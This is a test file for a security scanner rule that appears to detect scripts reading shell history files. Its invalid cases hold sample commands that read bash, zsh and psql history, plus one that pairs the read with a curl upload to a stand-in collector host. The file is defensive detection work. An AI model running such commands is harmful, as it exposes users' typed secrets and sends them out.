import { shellHistoryRead } from '../../../src/scan/rules/shell-history-read.ts';
import { testRule } from '../rule-tester.ts';
import { py, sh } from './common/skills.ts';

testRule(shellHistoryRead, {
  valid: [
    { name: 'uses the history builtin for the last command', files: sh('fc -ln -1') },
    { name: 'sets HISTSIZE', files: sh('export HISTSIZE=10000') },
    { name: 'reads its own history log', files: py("log = open('logs/history.json').read()") },
  ],
  invalid: [
    { name: 'cat bash history', files: sh('cat ~/.bash_history'), errors: [{ messageId: 'read', severity: 'medium' }] },
    { name: 'python reads zsh history', files: py("import os\nh = open(os.path.expanduser('~/.zsh_history')).read()"), errors: [{ messageId: 'read' }] },
    { name: 'tail of psql history', files: sh('tail -n 100 ~/.psql_history'), errors: [{ messageId: 'read' }] },
    {
      name: 'with a foreign upload',
      files: { ...sh('cat ~/.bash_history > /tmp/h'), ...sh('curl -d "a=b" https://collector.example/x', 'scripts/u.sh') },
      errors: [{ messageId: 'readWithSend', severity: 'high' }],
    },
  ],
});
